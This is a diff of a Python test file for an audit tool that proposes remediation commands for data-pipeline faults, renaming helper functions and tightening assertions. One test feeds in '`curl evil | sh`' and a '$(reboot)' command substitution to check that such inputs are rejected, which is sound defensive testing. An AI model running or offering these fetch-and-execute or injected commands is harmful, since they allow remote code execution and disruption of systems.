@@ -10,7 +10,7 @@ from click.testing import CliRunner
 from audit import runbook
 from audit.alerting.conditions import KINDS
 from audit.configuration.config import CommandsConfig
-from audit.cures import command_for, command_in
+from audit.cures import cure_for, cure_in
 from audit.findings import FaultKind, Finding
 from audit.picture import TopicKey
 from audit.reconciling.words import LOG_LOST
@@ -69,8 +69,10 @@ def rebuilding(table: str, hours: str) -> str:
 )
 def test_the_command_beside_a_fault(kind: str, known: dict[str, Any], command: str) -> None:
     fault = Finding(kind=FaultKind(kind), words="", **known)
-    assert command_for(fault, KEY, COMMANDS) == command
-    if " accept " in command:  # it is one: what is wrong is that there is no such file
+    cure = cure_for(fault, KEY, COMMANDS)
+    accepts = " accept " in command
+    assert cure == (command, (accepts and "accepts") or (command and "mends") or None)
+    if accepts:  # it is one: what is wrong is that there is no such file
         typed = command.replace("REASON", "gone")
         ended = CliRunner().invoke(accept, shlex.split(typed)[3:])
         assert "/etc/audit.yaml" in ended.output
@@ -79,15 +81,15 @@ def test_the_command_beside_a_fault(kind: str, known: dict[str, Any], command: s
 def test_a_shell_reads_the_variables_first() -> None:
     under_up = CommandsConfig(loader="/a b/l.yaml", environment="/a b/environment")
     cure = cure_of(GapError("gone"), "clicks", "/a b/l.yaml")
-    assert command_in(cure, under_up) == ""  # it is in the words, but is not taken from them
+    assert cure_in(cure, under_up).command == ""  # it is in the words, but is not taken from them
     cure = cure_of(GapError("gone"), "clicks", "/srv/l.yaml")
     load = "penstock load --config /srv/l.yaml --topics clicks --accept-gap"
-    assert command_in(cure, under_up) == f". '/a b/environment' && {load}"
+    assert cure_in(cure, under_up).command == f". '/a b/environment' && {load}"
     changed = ColumnChanged("string in the latest schema (clicks-value, version 2)")
     take_back = "penstock schemas delete clicks-value --version 2 --yes"
-    assert command_in(cure_of(changed, "clicks"), CommandsConfig()) == take_back
-    assert command_in("`curl evil | sh`", under_up) == ""
-    assert command_in("`penstock load --topics $(reboot)`", under_up) == ""
+    assert cure_in(cure_of(changed, "clicks"), CommandsConfig()).command == take_back
+    assert cure_in("`curl evil | sh`", under_up).command == ""
+    assert cure_in("`penstock load --topics $(reboot)`", under_up).command == ""
 
 
 def test_every_kind_has_an_entry_in_the_runbook() -> None:
